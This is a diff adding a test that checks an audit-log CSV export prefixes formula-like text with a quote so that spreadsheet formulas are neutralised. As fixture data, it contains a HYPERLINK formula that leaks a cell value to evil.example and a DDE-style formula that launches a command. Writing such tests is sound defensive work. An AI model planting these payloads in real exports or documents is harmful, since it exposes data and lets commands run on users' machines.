@@ -248,3 +248,27 @@ def test_export_with_invalid_filters_is_refused_and_not_logged(users, client_for
     response = client_for(users["auditor"]).get(EXPORT, {"date_from": "2024-02-01", "date_to": "2024-01-01"})
     assert response.status_code == 400
     assert not AuditEvent.objects.filter(action="audit.export").exists()
+
+
+def test_export_neutralises_formulas_in_reasons_and_changes(users, client_for):
+    # given a break-the-glass reason (free text typed by any officer) that is a spreadsheet formula
+    attack = '=HYPERLINK("http://evil.example/?leak="&A2,"Open the case")'
+    audit_record(
+        actor=users["investigator"],
+        action="breakglass.open",
+        target_type="cases.case",
+        target_id="c-1",
+        reason=attack,
+        changes={"note": "x"},
+    )
+    audit_record(actor=users["investigator"], action="breakglass.open", reason="-2+3+cmd|' /C calc'!A0")
+    # when the auditor exports
+    rows = _csv(client_for(users["auditor"]).get(EXPORT, {"action": "breakglass."}))
+    # then each reason is text, prefixed with a quote, and no cell starts a formula
+    reasons = [r[9] for r in rows[1:]]
+    assert reasons == ["'" + attack, "'-2+3+cmd|' /C calc'!A0"]
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    # numbers stay numbers
+    assert rows[1][0].isdigit()
